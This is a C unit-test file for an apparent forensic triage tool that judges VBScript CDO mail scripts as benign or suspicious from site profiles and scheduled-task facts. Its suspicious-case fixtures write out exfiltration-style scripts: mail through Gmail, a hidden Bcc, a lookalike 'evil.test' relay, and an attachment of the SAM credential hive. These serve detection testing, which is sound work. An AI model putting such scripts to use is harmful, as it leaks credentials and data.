@@ -1,0 +1,164 @@
+/* SPDX-License-Identifier: Apache-2.0 */
+/* test_verdicts.c - profiles and their errors, the verdicts of ordinary scripts, and that a second
+ * site's facts flip just what depends on them. */
+#include "assess_test.h"
+
+static const char SITE[] = "format: triage-benign/1\nsite:\n  mail-domains: [corp.example]\n"
+                           "  relays: [mail.corp.example, 10.20.0.0/16]\n";
+static const char OTHER_SITE[] = "format: triage-benign/1\nsite:\n  mail-domains: [nord.example]\n"
+                                 "  relays: [relay.nord.example]\n";
+
+#define SCRIPT(server, to, more)                                                                   \
+  "Set m = CreateObject(\"CDO.Message\")\n"                                                        \
+  "m.Configuration.Fields.Item(\"http://schemas.microsoft.com/cdo/configuration/smtpserver\") = "  \
+  "\"" server "\"\nm.From = \"job@corp.example\"\nm.To = \"" to "\"\n" more "m.Send\n"
+
+static FactRef task(const char *target) {
+  return (FactRef){.kind = "task",
+                   .target = target,
+                   .detail = "author CORP\\\\adm",
+                   .path = "/Windows/System32/Tasks/Corp/Report",
+                   .sha256 = "aa",
+                   .evidence = "disk",
+                   .volume = 1,
+                   .is_live = true};
+}
+
+static VerdictKind verdict_of(const char *site, const TestPlace *place, const char *text,
+                              const char *scenario) {
+  g_autoptr(ProfileSet) set = test_profiles(site);
+  Verdict verdict;
+  test_assess(set, place, text, &verdict);
+  VerdictKind kind = verdict.verdict;
+  if (scenario != NULL && strcmp(verdict.scenario, scenario) != 0)
+    fail_msg("scenario %s (%s)", verdict.scenario, verdict.reason);
+  if (kind == VERDICT_KNOWN_BENIGN)
+    assert_true(verdict.corroboration->len > 0);
+  verdict_clear(&verdict);
+  return kind;
+}
+
+static const char GOOD[] =
+    SCRIPT("mail.corp.example", "finance@corp.example", "m.AddAttachment \"D:\\Reports\\x.csv\"\n");
+
+static void test_report(void **state) {
+  (void)state;
+  FactRef fact = task("cscript.exe //B \"C:\\\\Scripts\\\\Reports\\\\n.vbs\"");
+  g_autoptr(GPtrArray) facts = g_ptr_array_new();
+  g_ptr_array_add(facts, &fact);
+  TestPlace place = {.path = "/Scripts/Reports/n.vbs", .facts = facts};
+  assert_int_equal(verdict_of(SITE, &place, GOOD, "scheduled-report"), VERDICT_KNOWN_BENIGN);
+  /* a second site: the same script now mails by a server outside */
+  assert_int_equal(verdict_of(OTHER_SITE, &place, GOOD, ""), VERDICT_SUSPICIOUS);
+  /* nothing stated: likely, by what the evidence implies */
+  FactRef domain = fact;
+  domain.kind = "account-domain";
+  domain.target = "CORP";
+  g_ptr_array_add(facts, &domain);
+  assert_int_equal(verdict_of(NULL, &place, GOOD, "scheduled-report"), VERDICT_LIKELY_BENIGN);
+  domain.target = "NORD";
+  assert_int_equal(verdict_of(NULL, &place, GOOD, ""), VERDICT_UNEXPLAINED);
+  fact.is_live = false; /* the task was deleted */
+  assert_int_equal(verdict_of(SITE, &place, GOOD, "internal-relay"), VERDICT_LIKELY_BENIGN);
+}
+
+static void test_place(void **state) {
+  (void)state;
+  FactRef fact = task("cscript.exe //B \"C:\\\\Scripts\\\\Reports\\\\n.vbs\"");
+  g_autoptr(GPtrArray) facts = g_ptr_array_new();
+  g_ptr_array_add(facts, &fact);
+  const TestPlace places[] = {
+      {.path = "/Scripts/Reports/n.vbs", .state = "deleted", .facts = facts},
+      {.path = "/Scripts/Reports/n.vbs", .is_named_stream = true, .facts = facts},
+      {.path = "/Windows/Temp/n.vbs", .facts = facts},
+      {.path = "/Scripts/Reports/n.vbs", .view = "vbe", .facts = facts}};
+  for (guint i = 0; i < G_N_ELEMENTS(places); i++)
+    assert_int_equal(verdict_of(SITE, &places[i], GOOD, ""), VERDICT_SUSPICIOUS);
+  TestPlace open = {.path = "/Users/x/Desktop/n.vbs", .facts = facts};
+  assert_int_equal(verdict_of(SITE, &open, GOOD, ""), VERDICT_UNEXPLAINED);
+  TestPlace table = {.path = "/$MFT", .facts = facts};
+  assert_int_equal(verdict_of(SITE, &table, GOOD, ""), VERDICT_UNEXPLAINED);
+}
+
+static void test_suspicious(void **state) {
+  (void)state;
+  static const char *const texts[] = {
+      SCRIPT("smtp.gmail.com", "x@gmail.com", ""),
+      SCRIPT("mail.corp.example", "finance@corp.example", "m.Bcc = \"x@proton.me\"\n"),
+      SCRIPT("mail.corp.example.evil.test", "finance@corp.example", ""),
+      SCRIPT("mail.corp.example", "finance@corp.example", "m.AddAttachment \"C:\\x\\SAM\"\n"),
+      SCRIPT("203.0.113.9", "finance@corp.example", "")};
+  FactRef fact = task("cscript.exe \"C:\\\\Scripts\\\\n.vbs\"");
+  g_autoptr(GPtrArray) facts = g_ptr_array_new();
+  g_ptr_array_add(facts, &fact);
+  TestPlace place = {.path = "/Scripts/n.vbs", .facts = facts};
+  for (guint i = 0; i < G_N_ELEMENTS(texts); i++)
+    if (verdict_of(SITE, &place, texts[i], "") != VERDICT_SUSPICIOUS)
+      fail_msg("not suspicious: %s", texts[i]);
+}
+
+static void test_other_content(void **state) {
+  (void)state;
+  TestPlace inbox = {.path = "/home/jdoe/.thunderbird/x/Mail/Local Folders/Inbox"};
+  static const char mail[] = "From - Mon Jun  3 10:00:00 2024\nX-Mozilla-Status: 0001\n"
+                             "From: a@corp.example\nTo: b@corp.example\nSubject: x\n\n";
+  g_autofree char *mbox = g_strconcat(mail, GOOD, NULL);
+  assert_int_equal(verdict_of(SITE, &inbox, mbox, "user-mail"), VERDICT_LIKELY_BENIGN);
+  assert_int_equal(verdict_of(SITE, &inbox, GOOD, NULL), VERDICT_UNEXPLAINED);
+  TestPlace rules = {.path = "/opt/scanner/mail.yar"};
+  assert_int_equal(verdict_of(SITE, &rules,
+                              "rule x {\n strings:\n  $a = \"CDO.Message\" nocase\n condition:\n  "
+                              "any of them\n}\n",
+                              ""),
+                   VERDICT_LIKELY_BENIGN);
+}
+
+static void test_approved(void **state) {
+  (void)state;
+  static const char digest[] = "00112233445566778899aabbccddeeff00112233445566778899aabbccddeeff";
+  g_autofree char *site = g_strdup_printf(
+      "%s  approved:\n    - sha256: %s\n      scenario: health-check\n      note: ticket 7\n", SITE,
+      digest);
+  g_autoptr(ProfileSet) set = test_profiles(site);
+  TestPlace place = {.path = "/x.vbs", .sha256 = digest};
+  Verdict verdict;
+  test_assess(set, &place, SCRIPT("smtp.gmail.com", "x@gmail.com", ""), &verdict);
+  assert_int_equal(verdict.verdict, VERDICT_KNOWN_BENIGN);
+  assert_string_equal(verdict.scenario, "health-check");
+  verdict_clear(&verdict);
+}
+
+static void expect_error(const char *text, const char *wanted) {
+  g_autoptr(GError) error = NULL;
+  g_autoptr(ProfileSet) set = profile_set_parse("f.yaml", text, &error);
+  if (set != NULL)
+    fail_msg("accepted: %s", text);
+  assert_int_equal(triage_error_reason(error), TRIAGE_REASON_USAGE);
+  if (!g_str_has_prefix(error->message, wanted))
+    fail_msg("%s, not %s", error->message, wanted);
+}
+
+static void test_profile_errors(void **state) {
+  (void)state;
+  expect_error("", "f.yaml:");
+  expect_error("format: triage-benign/2\n", "f.yaml:1:9: format 'triage-benign/2'");
+  expect_error("site:\n  relays: [a]\n", "f.yaml:1:1: the key 'format");
+  expect_error("format: triage-benign/1\nsite:\n  relay: [a]\n",
+               "f.yaml:3:11: unknown key 'relay'");
+  expect_error("format: triage-benign/1\nsite:\n  relays: [10.0.0.0/33]\n", "f.yaml:3:12: relay");
+  expect_error("format: triage-benign/1\nsite: {relays: [a]\n", "f.yaml:");
+  expect_error("format: triage-benign/1\nsite:\n  mail-domains: &d [a.test]\n  relays: *d\n",
+               "f.yaml:4:");
+  expect_error("format: triage-benign/1\nprofiles:\n  - {id: a, scenario: tea, title: x}\n",
+               "f.yaml:3:23: scenario 'tea'");
+  expect_error("format: triage-benign/1\nsite:\n  approved: [{sha256: abc}]\n",
+               "f.yaml:3:23: a SHA");
+}
+
+int main(void) {
+  const struct CMUnitTest tests[] = {
+      cmocka_unit_test(test_report),     cmocka_unit_test(test_place),
+      cmocka_unit_test(test_suspicious), cmocka_unit_test(test_other_content),
+      cmocka_unit_test(test_approved),   cmocka_unit_test(test_profile_errors)};
+  return cmocka_run_group_tests(tests, NULL, NULL);
+}
